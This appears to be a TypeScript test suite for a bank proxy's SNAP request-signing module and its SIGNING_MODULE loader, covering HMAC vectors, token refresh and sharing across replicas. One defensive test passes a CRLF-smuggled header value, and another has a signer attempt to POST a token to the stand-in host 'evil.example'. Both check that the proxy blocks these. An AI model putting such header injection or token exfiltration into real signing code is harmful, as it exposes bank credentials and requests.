/** Another bank's way of signing, by a module: SNAP's as the example. */
import assert from 'node:assert/strict'
import { createHash, createHmac, createPublicKey, verify } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { createSharedValues } from '../../../../src/proxy/bank/sharedValues.ts'
import { memoryStore } from '../../../../src/proxy/store/memory.ts'
import type { SharedStore } from '../../../../src/proxy/store/sharedStore.ts'
import type { SignRequest, UnsignedRequest } from '../../../../src/proxy/types.ts'
import { readServedBank } from '../../../../src/bank/dir.ts'
import { inspectConfig, type EnvVariables } from '../../../../src/proxy/config/config.ts'
import { readSigningModule } from '../../../../src/proxy/config/modules.ts'
import {
  type Answering,
  development,
  fullAnswer,
  JOURNEY,
  knowing,
  ok,
  setUp,
  START,
  testKey,
  verdict,
} from '../rig.ts'

const SNAP = new URL('../../../../demo/operate/snap.mjs', import.meta.url).href
const SECRET = 'TEST-ONLY client secret'
const TOKEN_PATH = '/v1.0/access-token/b2b'

interface Snap {
  readonly default: SignRequest
  createSnap(settings: { clientSecret: string; channelId: string; tokenPath?: string }): SignRequest
  hmac(secret: string, text: string): string
  stringToSign(
    request: { method: string; path: string; query: string; body: string },
    token: string,
    timestamp: string,
  ): string
}

describe('a signing module for SNAP', () => {
  let snap: Snap
  before(async () => {
    Object.assign(process.env, { SNAP_CLIENT_SECRET: SECRET, SNAP_CHANNEL_ID: '95221' })
    snap = (await import(SNAP)) as Snap
  })
  after(() => {
    delete process.env['SNAP_CLIENT_SECRET']
    delete process.env['SNAP_CHANNEL_ID']
  })

  /** A bank that gives tokens for a signature of the key, each ending the one before, and takes the last. */
  const bank = (tokens: string[], expiresIn = '900') => {
    const inputs: string[] = []
    let isEnded = false
    return {
      given: inputs,
      endToken: () => {
        isEnded = true
      },
      answer({ url, init }: { url: string; init: { headers: Record<string, string>; body?: string } }) {
        const { headers, body = '' } = init
        if (url.endsWith(TOKEN_PATH)) {
          const text = `${headers['X-CLIENT-KEY']}|${headers['X-TIMESTAMP']}`
          const signature = Buffer.from(headers['X-SIGNATURE'] ?? '', 'base64')
          if (!verify('sha256', Buffer.from(text), createPublicKey(testKey), signature))
            return Response.json({ responseCode: '4017300' }, { status: 401 })
          const accessToken = tokens[inputs.length]
          if (!accessToken) return Response.json({ responseCode: '5007300' }, { status: 500 })
          inputs.push(accessToken)
          isEnded = false
          return Response.json({ responseCode: '2007300', accessToken, tokenType: 'Bearer', expiresIn })
        }
        const token = headers['authorization']?.replace('Bearer ', '') ?? ''
        const digest = createHash('sha256').update(body).digest('hex')
        const { pathname } = new URL(url)
        const text = `POST:${pathname}:${token}:${digest}:${headers['X-TIMESTAMP']}`
        const expectation = createHmac('sha512', SECRET).update(text).digest('base64')
        const isRight = !isEnded && inputs.at(-1) === token && headers['X-SIGNATURE'] === expectation
        return isRight
          ? ok(fullAnswer)
          : Response.json({ code: 9020, message: 'x', data: {} }, { status: 401 })
      },
    }
  }
  const ask = (rig: Awaited<ReturnType<typeof setUp>>) => rig.call('get-msisdn', { journeyId: JOURNEY })

  test('makes what RFC 4231 says, test case 2', () => {
    assert.equal(
      Buffer.from(snap.hmac('Jefe', 'what do ya want for nothing?'), 'base64').toString('hex'),
      '164b7a7bfcf819e2e395fbe73b56e0a387bd64222e831fd610270cd7ea2505549758bf75c05a994a6d034f65f8f0e6fdcaeab1a34d4a6b4b636e070a38bce737',
    )
  })

  test("joins method, path, token, the body's digest (FIPS 180-4) and time", () => {
    const request = { method: 'GET', path: '/api/v1/x', query: 'a=1', body: '' }
    assert.equal(
      snap.stringToSign(request, 'token', '2026-11-21T10:00:00+07:00'),
      'GET:/api/v1/x?a=1:token:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855:2026-11-21T10:00:00+07:00',
    )
  })

  test('signs requests with a token that it asks for once', async () => {
    const { answer, given } = bank(['token-1'])
    const rig = await setUp({
      answer,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    const answers = await Promise.all([ask(rig), ask(rig)])
    assert.deepEqual(
      answers.map(({ status }) => status),
      [200, 200],
    )
    assert.deepEqual(given, ['token-1'])
    const headers = rig.bankRequests.at(-1)?.init.headers ?? {}
    assert.equal(headers['X-TIMESTAMP'], '2026-11-21T10:00:00+07:00')
    assert.equal(START, Date.parse('2026-11-21T10:00:00+07:00'))
    assert.match(headers['X-EXTERNAL-ID'] ?? '', /^\d{1,36}$/)
    assert.equal(headers['sign'], undefined)
  })

  test('asks for another token before the one that it has ends', async () => {
    const { answer, given } = bank(['token-1', 'token-2'], '60')
    const rig = await setUp({
      answer,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    assert.equal((await ask(rig)).status, 200)
    rig.clock.now += 29_000
    assert.equal((await ask(rig)).status, 200)
    rig.clock.now += 2_000
    assert.equal((await ask(rig)).status, 200)
    assert.deepEqual(given, ['token-1', 'token-2'])
  })

  test('a token that the bank has ended early is asked for anew, and no call fails', async () => {
    const { answer, given, endToken } = bank(['token-1', 'token-2'])
    const rig = await setUp({
      answer,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    assert.equal((await ask(rig)).status, 200)
    endToken()
    const answers = await Promise.all(Array.from({ length: 7 }, () => ask(rig)))
    assert.deepEqual(
      answers.map(({ status }) => status),
      Array<number>(7).fill(200),
    )
    assert.deepEqual(given, ['token-1', 'token-2'])
  })

  test('replicas share the token of a bank that keeps one', async () => {
    const { answer, given, endToken } = bank(['token-1', 'token-2', 'token-3'])
    const store = memoryStore({ now: () => START, elapsed: () => 0 })
    const replica = () =>
      setUp({ answer, store, signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }) })
    const replicas = [await replica(), await replica()]
    const askAll = async () =>
      (await Promise.all(Array.from({ length: 6 }, (_, n) => ask(replicas[n % 2] ?? replicas[0]!)))).map(
        ({ status }) => status,
      )
    const well = Array<number>(6).fill(200)
    assert.deepEqual([await askAll(), given], [well, ['token-1']])
    endToken()
    assert.deepEqual([await askAll(), given], [well, ['token-1', 'token-2']])
  })

  test('a bank that gives the token again that it refuses is asked no further', async () => {
    const { answer, given, endToken } = bank(['token-1', 'token-1', 'token-1'])
    const refusing: Answering = (request) => {
      const response = answer(request)
      endToken()
      return response
    }
    const rig = await setUp({
      answer: refusing,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    assert.deepEqual(await verdict(await ask(rig)), [502, '9020'])
    assert.deepEqual(given, ['token-1', 'token-1'])
  })

  test('one that lives for seconds is used for some of them', async () => {
    const { answer, given } = bank(['token-1', 'token-2'], '10')
    const rig = await setUp({
      answer,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    assert.equal((await ask(rig)).status, 200)
    rig.clock.now += 4_000
    assert.equal((await ask(rig)).status, 200)
    rig.clock.now += 2_000
    assert.equal((await ask(rig)).status, 200)
    assert.deepEqual(given, ['token-1', 'token-2'])
  })

  test('without a token nothing is sent, and the next request asks again', async () => {
    const tokens: string[] = []
    const { answer } = bank(tokens)
    const rig = await setUp({
      answer,
      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
    })
    const response = await ask(rig)
    assert.equal(response.headers.get('bank-sent'), 'no')
    assert.equal(response.status, 503)
    tokens.push('token-1')
    assert.equal((await ask(rig)).status, 200)
  })
})

describe('SIGNING_MODULE', () => {
  const inspect = (exported: unknown, change: EnvVariables = {}) =>
    inspectConfig(
      { ...development, SIGNING_MODULE: '/etc/sign.mjs', ...change },
      {
        readFile: () => Promise.reject(new Error('no such file')),
        readBank: readServedBank,
        random: (bytes) => new Uint8Array(bytes),
        now: Date.now,
        loadModule: async () => ({ default: exported }),
      },
    )

  test('signs with its function', async () => {
    const sign = () => ({ 'x-proof': 'yes' })
    const { settings, problems } = await inspect(sign)
    assert.deepEqual(problems, [])
    assert.equal(settings?.config.signRequest, sign)
  })

  test('that never ends loading is a mistake', async (t) => {
    t.mock.timers.enable({ apis: ['setTimeout'] })
    const problems: string[] = []
    const loadModule = () => new Promise<never>(() => undefined)
    const reading = readSigningModule('/etc/sign.mjs', { loadModule }, problems)
    t.mock.timers.tick(30_000)
    assert.equal(await reading, undefined)
    assert.match(problems.join(), /^SIGNING_MODULE can't be loaded: it isn't done within 30 s; .*\.$/)
  })

  test('without a function is a mistake', async () => {
    const { problems } = await inspect({})
    assert.match(problems.join(), /^SIGNING_MODULE must export a function by default/)
  })

  for (const [title, headers] of [
    ['of the connection', { 'Content-Length': '1' }],
    ['with a line break', { 'x-proof': 'a\r\nhost: x' }],
    ['without a text', { 'x-proof': undefined as unknown as string }],
    ['without a name', { '': 'x' }],
  ] as const) {
    test(`refuses a header ${title}: nothing is sent`, async () => {
      const rig = await setUp({ signRequest: () => ({ ...headers }) })
      const answer = await rig.call('get-msisdn', { journeyId: JOURNEY })
      assert.equal(answer.headers.get('bank-sent'), 'no')
      assert.deepEqual(await verdict(answer), [503, '9004'])
      assert.equal(rig.bankRequests.length, 0)
    })
  }

  test('that takes too long sends nothing', async () => {
    const rig = await setUp({ signerTimeoutMs: 1, signRequest: () => new Promise(() => undefined) })
    const answer = await rig.call('get-msisdn', { journeyId: JOURNEY })
    assert.equal(answer.headers.get('bank-sent'), 'no')
    assert.deepEqual(
      rig.lines.filter(({ event }) => event === 'signer-failed').map((line) => line['why']),
      ['TimeoutError'],
    )
  })

  const refusal = (code: number) => Response.json({ code, data: {} }, { status: 401 })
  test('hears of a refusal, with what it had signed, and is asked once more', async () => {
    const seen: UnsignedRequest['refused'][] = []
    const rig = await setUp({
      store: await knowing(),
      answer: () => refusal(9020),
      signRequest: ({ refused }) => {
        seen.push(refused)
        return { 'x-proof': `proof-${seen.length}` }
      },
    })
    assert.deepEqual(await verdict(await rig.call('get-msisdn', { journeyId: JOURNEY })), [502, '9020'])
    assert.deepEqual(
      seen.map((headers) => headers?.['x-proof']),
      [undefined, 'proof-1'],
    )
    assert.equal(rig.bankRequests.length, 2)
  })

  test("isn't asked again for a customer's session that is over", async () => {
    let count = 0
    const rig = await setUp({
      store: await knowing(),
      answer: () => refusal(9010),
      signRequest: () => ({ 'x-proof': String((count += 1)) }),
    })
    await rig.call('get-msisdn', { journeyId: JOURNEY })
    assert.equal(count, 1)
  })

  test('what it shares is sealed, and ends', async () => {
    const store = memoryStore({ now: () => START, elapsed: () => 0 })
    const written: string[] = []
    const notes: SharedStore['notes'] = {
      ...store.notes,
      write: (key, value, ms) => {
        written.push(key, value)
        return store.notes.write(key, value, ms)
      },
    }
    const clock = { time: START }
    const shared = createSharedValues({ notes }, ['a'.repeat(32)], { now: () => clock.time })
    await shared.write('token', 'secret-token', 1_000)
    assert.doesNotMatch(written.join(), /secret-token/)
    assert.equal(await shared.read('token'), 'secret-token')
    assert.equal(await shared.claim('token', 'other', 1_000), 'secret-token')
    const stranger = createSharedValues({ notes }, ['b'.repeat(32)], { now: () => clock.time })
    assert.equal(await stranger.read('token'), undefined)
    clock.time += 5_000
    assert.equal(await shared.read('token'), undefined)
  })

  test('asks nobody but the bank', async () => {
    const rig = await setUp({
      signRequest: async ({ fetch }) => {
        await fetch('//evil.example/token', { method: 'POST', headers: {}, body: '' })
        return {}
      },
    })
    assert.equal((await rig.call('get-msisdn', { journeyId: JOURNEY })).status, 503)
    assert.equal(rig.bankRequests.length, 0)
  })
})
